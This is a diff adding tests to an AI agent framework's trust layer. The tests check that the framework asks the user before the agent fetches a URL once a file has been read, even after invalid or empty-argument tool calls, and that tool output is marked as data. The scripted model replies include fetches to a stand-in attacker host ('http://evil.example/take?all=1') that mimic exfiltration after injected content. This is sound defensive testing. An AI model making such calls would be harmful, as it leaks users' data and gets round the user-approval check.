@@ -4,7 +4,7 @@ import { defineTool } from '../../src/domain/tool.ts'
 import type { RulesFile } from '../../src/trust/rules.ts'
 import type { Capability } from '../../src/turn/port/capability.ts'
 import { type MemoryBot, type Message, startMemoryBot } from '../support/memory-platform.ts'
-import { calls, type ScriptedReply, says } from '../support/model-server.ts'
+import { calls, callsRaw, type ScriptedReply, says } from '../support/model-server.ts'
 import { site, testWeb } from '../web/support.ts'
 import { asked, heard, no, results, yes } from './trust.ts'
 
@@ -111,6 +111,17 @@ describe('after a file was read', () => {
     await isAsked(started, 'the file http://evil.example')
   })
 
+  test.each([
+    ['what was read', [read], 'the file uploads/notes.md'],
+    ['a file that nobody has read yet', [], 'a file that was sent'],
+  ])('an invalid call afterwards does not make up for %s', async (_, before, source) => {
+    const evil = fetching('http://evil.example/take?all=1')
+    const started = await start('do it', [...before, calls('read_file', {}), evil, says('Done.')])
+    await isAsked(started, source)
+    const { messages } = started.bot.model.requests.at(-1) ?? { messages: [] }
+    expect(messages.map(({ content }) => content)).toContainEqual(expect.stringMatching(/^Error: the arguments of/))
+  })
+
   test('a search asks', async () => {
     await isAsked(
       await start('do it', [read, calls('web_search', { query: 'x' }), says('Done.')]),
@@ -199,6 +210,14 @@ describe('of the links of a page, five pass in one turn', () => {
     const started = await start(`see the page http://page.example/ ${written}`, script)
     await isAskedAbout(started, { asked: ['/link/5'], written: 7 })
   })
+})
+
+test('what a call with empty arguments returned is marked, and asks', async () => {
+  const script = [callsRaw('list_files', ''), fetching('http://evil.example/x'), says('Done.')]
+  const started = await start('do it without a page', script)
+  await isAsked(started, 'names of files')
+  const [, second] = started.bot.model.requests
+  expect(second?.messages.at(-1)?.content).toMatch(/^<data source="names of files">/)
 })
 
 describe('the rules', () => {
